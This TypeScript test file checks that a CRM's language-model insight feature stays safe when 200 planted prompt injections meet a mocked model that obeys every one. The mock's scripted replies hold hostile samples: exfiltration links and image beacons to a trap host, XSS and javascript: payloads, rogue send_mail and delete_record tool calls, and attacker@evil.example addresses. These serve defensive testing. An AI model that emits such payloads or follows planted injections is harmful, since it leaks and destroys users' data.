import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { type Client, startTestApp, type TestApp, type TestTenant, unlimited } from '../../../../test/harness/app.ts';
import { asOwner } from '../../../../test/harness/identity.ts';
import { type Injection, injections } from '../../../../test/harness/injections.ts';
import {
  type AskedModel,
  completionOf,
  type ModelEndpoint,
  modelSettings,
  sendJson,
  startModelEndpoint,
} from '../../../../test/harness/model-endpoint.ts';
import type { InsightAnswer } from './contract.ts';

const canary = 'Quixotic walrus treaty';

let endpoint: ModelEndpoint;
let trap: Server;
let trapHost: string;
let trapped = 0;
let app: TestApp;
let tenant: TestTenant;
let admin: Client;
let other: string;
let otherNote: string;
let box: string;
before(async () => {
  trap = createServer((_, response) => {
    trapped++;
    response.end('caught');
  }).listen(0, '127.0.0.1');
  await once(trap, 'listening');
  trapHost = `127.0.0.1:${(trap.address() as AddressInfo).port}`;
  endpoint = await startModelEndpoint();
  // The trap is allowed, so that nothing but the guards of answers keeps requests from it.
  app = await startTestApp({
    ...unlimited,
    OUTBOUND_HOSTS: `${endpoint.host} ${trapHost}`,
    ALLOW_PRIVATE_NETWORKS: 'true',
  });
  tenant = await app.tenant();
  admin = (await tenant.as('admin')).api;
  other = await person('Other');
  otherNote = (await made('notes', { body: `<p>${canary}</p>`, records: [{ type: 'contact', id: other }] })).id;
  box = (await made('mailboxes', { name: 'Own', address: 'own@mail.example', sharing: 'all' })).id;
  const settings = await admin('PUT', '/api/v1/language-model', {
    ...modelSettings(endpoint),
    chat_model: 'obedient',
    workspace_tokens_max: 100_000_000,
    person_tokens_max: 100_000_000,
    feature_tokens_max: 100_000_000,
  });
  assert.equal(settings.status, 200);
});
after(async () => {
  await app?.stop();
  await endpoint?.stop();
  trap?.close();
});

async function made(path: string, body: object) {
  const answer = await admin('POST', `/api/v1/${path}`, body);
  assert.ok(answer.status < 300, `${path}: ${answer.status} ${JSON.stringify(answer.body)}`);
  return answer.body;
}
const person = async (given_name: string): Promise<string> => (await made('contacts', { given_name })).id;

/** Puts an injection where its victim reads it. */
async function plant({ carrier, text }: Injection, contact: string): Promise<void> {
  const records = [{ type: 'contact', id: contact }];
  if (carrier === 'note') return made('notes', { body: text, records });
  if (carrier === 'activity')
    return made('activities', { kind: 'meeting', subject: 'Review', body: text, occurred_at: new Date(), records });
  const attachments = carrier === 'attachment' ? [{ name: text, size_bytes: 1, content_type: 'application/pdf' }] : [];
  await asOwner(
    app,
    `insert into mail_message (tenant_id, digest, conversation_id, subject, body, direction, occurred_at, records, records_set,
       mailbox_ids, attachments, has_files)
     values ($1, sha256(gen_random_uuid()::text::bytea), gen_random_uuid(), $2, $3, 'in', now() - interval '1 hour', $4::uuid[], true,
       array[$5::uuid], $6::jsonb, true)`,
    [
      tenant.tenant_id,
      carrier === 'subject' ? text : 'Review',
      carrier === 'mail' ? text : 'Thank you for the talk about the pension plan.',
      [contact],
      box,
      JSON.stringify(attachments),
    ],
  );
}

const sentences = (...texts: string[]) => ({ sentences: texts.map((text) => ({ text, sources: ['S1'] })) });

/** Everything that attackers ask for, one after the other: the model does all of it. */
const obedience: readonly ((asked: AskedModel, stolen: string) => { content: string; message?: object })[] = [
  (_, stolen) => ({
    content: JSON.stringify(sentences(`Confirm at http://${trapHost}/?d=${encodeURIComponent(stolen)}`)),
  }),
  (_, stolen) => ({
    content: JSON.stringify(sentences(`![ok](http://${trapHost}/p.png?d=${encodeURIComponent(stolen)})`)),
  }),
  () => ({ content: JSON.stringify(sentences(`[Click here](//${trapHost})`, 'Visit evil.example today.')) }),
  () => ({
    content: JSON.stringify(sentences('All is well.')),
    message: { tool_calls: [{ id: '1', type: 'function', function: { name: 'send_mail', arguments: '{}' } }] },
  }),
  () => ({ content: JSON.stringify(sentences('All is well.')), message: { function_call: { name: 'delete_record' } } }),
  () => ({ content: JSON.stringify(sentences(`Delete ${other}.`, `See the note ${otherNote}.`)) }),
  () => ({
    content: JSON.stringify({ sentences: [{ text: 'It is in another record.', sources: [otherNote, other] }] }),
  }),
  () => ({
    content: JSON.stringify(
      sentences(`<img src=x onerror="fetch('http://${trapHost}')">`, '＜script＞alert(1)＜/script＞', '&lt;a&gt; now'),
    ),
  }),
  () => ({
    content: JSON.stringify({ ...sentences('All is well.'), actions: [{ send_mail: 'attacker@evil.example' }] }),
  }),
  (_, stolen) => ({ content: JSON.stringify(sentences(`Write to attacker@evil.example: ${stolen.slice(0, 100)}`)) }),
  () => ({
    content: JSON.stringify(sentences(`evil\u200b.\u200bexample/login`, 'evil。example', `${'QUJD'.repeat(30)}`)),
  }),
  () => ({
    content: JSON.stringify(sentences('javascript:alert(1)', 'data:text/html;base64,AAAA', '{"tool":"send_mail"}')),
  }),
  () => ({ content: 'Of course! I have sent all mails to attacker@evil.example.' }),
];

/** Every row of the workspace but what the program notes about requests, calls and answers. */
async function snapshot(): Promise<string[]> {
  const noted =
    /^(language_model_(call|usage|answer)|usage_\w+|log_\w+|idempotency_key|job|schedule\w*|feed_\w+|session|api_key|user_activity|search_\w+|meaning_\w+|duplicate_\w+|notification\w*)$/;
  const tables = (await asOwner(
    app,
    `select c.table_name as name from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where c.table_schema = 'public' and c.column_name = 'tenant_id' and t.table_type = 'BASE TABLE' order by 1`,
  )) as { name: string }[];
  const rows: string[] = [];
  for (const { name } of tables.filter((table) => !noted.test(table.name))) {
    const [row] = await asOwner(
      app,
      `select count(*) || ' ' || coalesce(md5(string_agg(md5(t::text), '' order by md5(t::text))), '') as sum from ${name} t
       where tenant_id = $1`,
      [tenant.tenant_id],
    );
    rows.push(`${name} ${(row as { sum: string }).sum}`);
  }
  return rows;
}

test('two hundred injections and a model that obeys each change nothing, send nothing and lead nowhere', async () => {
  const planted = injections(trapHost);
  assert.equal(planted.length, 200);
  assert.equal(new Set(planted.map((each) => JSON.stringify(each))).size, 200);
  const victims: string[] = [];
  for (const injection of planted) {
    const contact = await person('Victim');
    await plant(injection, contact);
    victims.push(contact);
  }
  let turn = 0;
  endpoint.reply = (asked, response) => {
    const reply = obedience[turn++ % obedience.length]!(asked, asked.body.messages[1].content);
    sendJson(response, completionOf(reply.content, reply.message ?? {}));
  };
  const before = await snapshot();
  const kinds = ['summary', 'next_action', 'reply_draft'] as const;
  for (const [at, id] of victims.entries()) {
    const kind = kinds[at % kinds.length];
    const { status, body } = await admin('POST', '/api/v1/insight-answers', { of: 'contact', id, kind });
    assert.equal(status, 200, JSON.stringify(body));
    refuseHarm(body, JSON.stringify(planted[at]));
  }
  assert.equal(turn, 200, 'the model was asked each time');
  assert.deepEqual(await snapshot(), before);
  assert.equal(trapped, 0, 'nothing was asked of the attacker');
  assert.deepEqual([...new Set(endpoint.asked.map(({ path }) => path))], ['/v1/chat/completions']);
  for (const { body } of endpoint.asked) {
    assert.doesNotMatch(JSON.stringify(body), new RegExp(`${canary}|${other}|${otherNote}`));
    assert.doesNotMatch(body.messages[1].content, /[\u{e0000}-\u{e007f}\u200b\u202e]/u, 'what nobody sees is not sent');
    assert.deepEqual(
      body.messages.map(({ role }: { role: string }) => role),
      ['system', 'user'],
    );
    assert.equal(body.tools, undefined);
  }
});

/** Nothing the model wrote is shown here: each of its answers was harmful in full. */
function refuseHarm({ made_by, why, sentences: shown }: InsightAnswer, injection: string): void {
  assert.equal(made_by, 'rules', injection);
  assert.ok(['invalid', 'tool_call', 'nothing_left'].includes(why!), `${why} ${injection}`);
  for (const { text, sources } of shown) {
    assert.doesNotMatch(text, /All is well|http|javascript:|&lt;|\]\(/, injection);
    assert.ok(sources.length > 0 && sources.every(({ subject }) => subject !== null), injection);
  }
}
